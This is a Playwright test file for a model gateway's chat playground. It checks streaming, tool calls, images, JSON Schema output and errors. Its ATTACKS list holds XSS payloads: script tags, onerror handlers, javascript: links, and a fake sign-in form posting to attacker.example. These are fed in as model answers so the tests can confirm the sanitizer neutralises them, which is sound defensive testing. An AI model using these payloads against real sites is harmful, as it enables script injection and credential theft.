import { expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { openConsolePage, openPlayground, useBrowser } from '../support/console/console-page.ts';
import { SMALL } from '../support/images.ts';
import { sayByHand, sayReasoning } from '../support/upstream-answers.ts';
import { callInRounds, outputsOf, sayFormatted } from '../support/upstream-tools.ts';
import { refuse, say, stall, type UpstreamRequest } from '../support/upstream.ts';
import { useTestGateway } from '../support/use-test-gateway.ts';

const gateway = useTestGateway();
const browser = useBrowser();

async function send(page: Page, text: string): Promise<void> {
  await page.getByLabel('Message', { exact: true }).fill(text);
  await page.getByRole('button', { name: 'Send', exact: true }).click();
}

/** Resolves when an answer has ended. */
async function waitForEnd(page: Page): Promise<void> {
  await page.getByRole('button', { name: 'Try again' }).waitFor();
}

function promptsOf({ body }: UpstreamRequest): string[] {
  return body.input
    .filter(({ role }) => role === 'user')
    .flatMap(({ content = [] }) => content.map(({ text = '' }) => text));
}

it('an answer arrives piece by piece, as Markdown, and stays when the page is left and opened again', async () => {
  const provider = sayByHand();
  gateway.upstream.use(provider.script);
  const { page, errors } = await openPlayground(browser, gateway);
  await send(page, 'Say hello.');
  provider.say('Hello, **Ada**');
  await page.locator('strong', { hasText: 'Ada' }).waitFor();
  provider.say('.\n\n- one\n- two\n\n```go\nfmt.Println(1)\n```\n');
  await page.getByRole('listitem').filter({ hasText: 'two' }).waitFor();
  await page.goto(`${gateway.running.origin}/#/models`);
  await page.goto(`${gateway.running.origin}/#/playground`);
  provider.end();
  await waitForEnd(page);
  expect(await page.getByLabel('go', { exact: true }).innerText()).toBe('fmt.Println(1)');
  expect(errors).toEqual([]);
});

it('an answer shows its reasoning apart, its tokens and times, what was ignored, and its request as code', async () => {
  gateway.upstream.use(sayReasoning([['Let me **think**.']], 'Forty-two.'));
  const { page, errors } = await openPlayground(browser, gateway);
  await page.getByLabel('Effort').selectOption('high');
  await page.getByLabel('Verbosity').selectOption('low');
  await page.getByLabel('Instructions').fill('Be short.');
  await page.getByLabel('More parameters').fill('{"temperature": 0.2}');
  await send(page, "What's 6 × 7?");
  await waitForEnd(page);
  expect(gateway.upstream.requests[0]!.body).toMatchObject({
    reasoning: { effort: 'high' },
    text: { verbosity: 'low' },
  });
  await page.getByText('Thought for').click();
  await page.locator('details strong', { hasText: 'think' }).waitFor();
  const facts = await page.getByRole('list', { name: 'Facts about the answer' }).innerText();
  expect(facts).toMatch(/first token \d.*total \d.*11 tokens in \(3 cached\), 7 out \(2 reasoning\)/s);
  const changes = page.getByRole('list', { name: 'Changes to the request' });
  expect(await changes.innerText()).toContain('temperature');
  await page.getByRole('button', { name: 'Code of this request' }).click();
  const code = page.getByLabel('the code for curl', { exact: true });
  expect(await code.innerText()).toContain(`curl -N ${gateway.running.origin}/v1/chat/completions`);
  await page.getByRole('tab', { name: 'Python' }).click();
  expect(await page.getByLabel('the code for python', { exact: true }).innerText()).toContain(
    '{"role": "user", "content": "What\'s 6 × 7?"}',
  );
  await page.getByRole('tab', { name: 'Answer' }).click();
  expect(await page.getByLabel('the code for raw', { exact: true }).innerText()).toContain('[DONE]');
  expect(errors).toEqual([]);
});

it.each(['Chat completions', 'Responses'])(
  'a tool is called and given its result by hand: %s',
  async (api) => {
    const calls = [
      { name: 'get_weather', arguments: { city: 'Paris' } },
      { name: 'get_weather', arguments: { city: 'Rome' } },
    ];
    gateway.upstream.use(callInRounds([calls], 'It is warmer in Rome.'));
    const { page, errors } = await openPlayground(browser, gateway);
    await page.getByRole('radio', { name: api }).check();
    await page.getByRole('button', { name: 'Call a tool' }).click();
    await page.getByRole('button', { name: 'Send', exact: true }).click();
    const results = page.getByLabel('Result of get_weather', { exact: true });
    // The person goes on by the keyboard.
    await expect
      .poll(() => page.evaluate('document.activeElement.labels?.[0]?.innerText'))
      .toMatch(/^Result of/);
    const asCode = page.getByRole('button', { name: 'As code' });
    expect(await asCode.isDisabled()).toBe(true);
    await results.nth(1).fill('25 degrees');
    await results.nth(0).fill('18 degrees');
    expect(await page.getByLabel('Arguments of get_weather', { exact: true }).nth(1).innerText()).toContain(
      'Rome',
    );
    expect(await page.getByRole('button', { name: 'Send', exact: true }).isDisabled()).toBe(true);
    await page.getByRole('button', { name: 'Send the results' }).click();
    await page.getByText('It is warmer in Rome.').waitFor();
    // The results are no longer inputs, and the person goes on by the keyboard.
    await expect.poll(() => page.evaluate('document.activeElement.ariaLabel')).toBe('Message');
    expect(outputsOf(gateway.upstream.requests.at(-1)!)).toEqual(['18 degrees', '25 degrees']);
    expect(errors).toEqual([]);
  },
);

it('an answer is stopped within a second, at the provider as well, and the conversation goes on', async () => {
  gateway.upstream.use(stall('Once upon a time'));
  const { page, errors } = await openPlayground(browser, gateway);
  await send(page, 'Tell me a story.');
  await page.getByText('Once upon a time').waitFor();
  const begun = performance.now();
  await page.getByRole('button', { name: 'Stop' }).click();
  await page.getByText('Stopped', { exact: true }).waitFor();
  await gateway.upstream.requests[0]!.aborted;
  expect(performance.now() - begun).toBeLessThan(1000);
  gateway.upstream.use(say('The end.'));
  await send(page, 'Make it shorter.');
  await page.getByText('The end.').waitFor();
  await page.getByRole('button', { name: 'Edit this message' }).nth(1).click();
  await send(page, 'Make it longer.');
  await waitForEnd(page);
  expect(promptsOf(gateway.upstream.requests.at(-1)!).slice(-2)).toEqual([
    'Tell me a story.',
    'Make it longer.',
  ]);
  expect(errors).toEqual([]);
});

it('images are chosen, pasted and dropped, and one that cannot be sent is refused', async () => {
  gateway.upstream.use(say('Three images.'));
  const { page, errors } = await openPlayground(browser, gateway);
  const base64 = SMALL.png.toString('base64');
  await page.locator('input[type=file]').setInputFiles([
    { name: 'chosen.png', mimeType: 'image/png', buffer: SMALL.png },
    { name: 'notes.txt', mimeType: 'text/plain', buffer: Buffer.from('x') },
  ]);
  await page.getByText('A message takes up to 16 images').waitFor();
  for (const [type, name] of [
    ['paste', 'pasted.png'],
    ['drop', 'dropped.png'],
  ] as const) {
    // A file that is dropped beside the message would replace the page otherwise.
    const place = type === 'paste' ? page.getByLabel('Message', { exact: true }) : page.locator('h1');
    await place.evaluate(giveFile, { type, name, base64 });
    await page.getByAltText(name).waitFor();
  }
  await send(page, 'How many images are there?');
  await waitForEnd(page);
  const { content = [] } = gateway.upstream.requests[0]!.body.input.findLast(({ role }) => role === 'user')!;
  const images = content.filter((part) => 'image_url' in part);
  expect(images).toHaveLength(3);
  expect(errors).toEqual([]);
});

/** Gives an element a file, as the browser does when one is pasted or dropped. Runs in the page. */
function giveFile(
  element: unknown,
  { type, name, base64 }: { readonly type: string; readonly name: string; readonly base64: string },
): void {
  const page = globalThis as unknown as Record<string, new (...args: unknown[]) => never> & {
    atob(text: string): string;
  };
  const bytes = Uint8Array.from(page.atob(base64), (sign) => sign.codePointAt(0)!);
  const data: { readonly items: { add(file: unknown): void } } = new page.DataTransfer!();
  data.items.add(new page.File!([bytes], name, { type: 'image/png' }));
  const field = type === 'paste' ? 'clipboardData' : 'dataTransfer';
  const event = new page[type === 'paste' ? 'ClipboardEvent' : 'DragEvent']!(type, {
    bubbles: true,
    cancelable: true,
    [field]: data,
  });
  (element as { dispatchEvent(event: unknown): void }).dispatchEvent(event);
}

it('an answer follows a JSON Schema, which is checked as it is written, without a stream as well', async () => {
  gateway.upstream.use(sayFormatted({ rivers: [{ name: 'Volga', length_km: 3530 }] }));
  const { page, errors } = await openPlayground(browser, gateway);
  await page.getByRole('radio', { name: 'Responses' }).check();
  await page.getByRole('button', { name: 'Answer as JSON' }).click();
  const schema = page.getByLabel('JSON Schema', { exact: true });
  const good = await schema.inputValue();
  await schema.fill('{"type": }');
  await page.getByText('This is not JSON').waitFor();
  expect(await page.getByRole('button', { name: 'Send', exact: true }).isDisabled()).toBe(true);
  await schema.fill('{\n}');
  await page.getByRole('button', { name: 'Edit larger: JSON Schema' }).click();
  await page.getByLabel('JSON Schema as JSON').fill(good);
  await page.getByRole('button', { name: 'Done' }).click();
  await page.getByLabel('Stream the answer').uncheck();
  await page.getByRole('button', { name: 'Send', exact: true }).click();
  await waitForEnd(page);
  const json = await page.getByLabel('JSON of the answer', { exact: true }).innerText();
  expect(JSON.parse(json)).toEqual({ rivers: [{ name: 'Volga', length_km: 3530 }] });
  expect(errors).toEqual([]);
});

it('an error has the words of the gateway and its code, and a second attempt can succeed', async () => {
  gateway.upstream.use(say('Fine.'));
  const { page } = await openPlayground(browser, gateway);
  await page.getByLabel('Refuse what would be ignored').check();
  await page.getByLabel('More parameters').fill('{"temperature": 0.2}');
  await send(page, 'Hello');
  const alert = page.getByRole('alert');
  await alert.waitFor();
  const refused = await gateway.post(
    { model: 'gpt-5.5', messages: [{ role: 'user', content: 'Hello' }], temperature: 0.2 },
    { headers: { 'x-codex-gateway-strict': '1' } },
  );
  const { error } = (await refused.json()) as {
    readonly error: { readonly message: string; readonly code: string };
  };
  expect(await alert.innerText()).toContain(error.message);
  expect(await alert.innerText()).toContain(error.code);
  await alert.getByText('What to do: ').waitFor();
  await page.getByRole('textbox', { name: 'More parameters' }).fill('');
  await page.getByRole('button', { name: 'Try again' }).click();
  await page.getByText('Fine.').waitFor();
  gateway.upstream.use(refuse(429, { error: { message: 'Slow down.', code: 'rate_limit_exceeded' } }));
  await send(page, 'Again');
  await alert.waitFor();
  expect(await alert.innerText()).toContain('asks to try again later');
  await page.getByRole('button', { name: 'Timeline of this request' }).last().click();
  await page.waitForURL(/#\/requests\/\d+$/);
});

/** Answers of a model that try to run something, to load something, or to look like the console. */
const ATTACKS = [
  '<script>window.attacked = 1</script>',
  '<img src=x onerror="window.attacked = 1">',
  '<img src="https://attacker.example/a.png">',
  '![image](https://attacker.example/b.png)',
  '![image](javascript:window.attacked=1)',
  '[link](javascript:window.attacked=1)',
  '[link](JaVaScRiPt&colon;window.attacked=1)',
  '[link](data:text/html,<script>opener.attacked=1</script>)',
  '<a href="javascript:window.attacked=1">link</a>',
  '<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>',
  '<svg onload="window.attacked=1"><style>*{display:none}</style></svg>',
  '<math><mi><style><img src=x onerror=window.attacked=1></style></mi></math>',
  '<form action="https://attacker.example"><input name="key"><button>Sign in</button></form>',
  '<b style="position:fixed;inset:0" id="main" class="dialog" onclick="window.attacked=1">over</b>',
  '"><details open ontoggle="window.attacked=1">',
  '[x]: javascript:window.attacked=1\n\n[a reference][x]',
  '| a |\n|---|\n| <img src=x onerror=window.attacked=1> |',
  '```html"><img src=x onerror=window.attacked=1>\n<script>window.attacked=1</script>\n```',
  '[inside](#/keys) and [relative](/console/sign-out)',
];

it.each([300, 1_000, 3_000])('an answer that is nested %i times deep breaks nothing', async (depth) => {
  gateway.upstream.use(sayReasoning([['Deep.']], `${'>'.repeat(depth)} deep down`));
  const { page, errors } = await openPlayground(browser, gateway);
  await send(page, 'Go deep.');
  await waitForEnd(page);
  expect(await page.locator('.markdown').last().textContent()).toContain('deep down');
  expect(await page.getByRole('navigation').count()).toBe(1);
  expect(errors).toEqual([]);
});

it('nothing in the answer of a model runs, loads anything, leads into the console or looks like a part of it', async () => {
  gateway.upstream.use(sayReasoning([[ATTACKS.join('\n\n')]], ATTACKS.join('\n\n')));
  const { page, errors } = await openPlayground(browser, gateway);
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  await send(page, ATTACKS[1]!);
  await waitForEnd(page);
  await page.getByText('Thought for').click();
  const answer = page.locator('.markdown');
  expect(await answer.count()).toBe(2);
  const found =
    'script, img, iframe, svg, math, style, form, input, details, [style], [id], [onclick], .markdown .dialog';
  expect(await answer.locator(found).count()).toBe(0);
  const links = await answer
    .locator('a')
    .evaluateAll((all) =>
      all.map((link) =>
        (link as unknown as { getAttribute(name: string): string | null }).getAttribute('href'),
      ),
    );
  expect([...new Set(links)]).toEqual(['https://attacker.example/b.png', null]);
  expect(await page.evaluate('window.attacked')).toBeUndefined();
  expect(asked.filter((url) => !url.startsWith(gateway.running.origin))).toEqual([]);
  // Not even the policy of the page had anything to refuse.
  expect(errors).toEqual([]);
});

it('a browser that may only look sees how to ask', async () => {
  const { page } = await openConsolePage(browser, gateway, {
    grant: { read_only: true },
    place: 'playground',
  });
  await page.getByText('This browser may not ask the models.').waitFor();
  expect(await page.getByRole('button', { name: 'Send', exact: true }).count()).toBe(0);
});
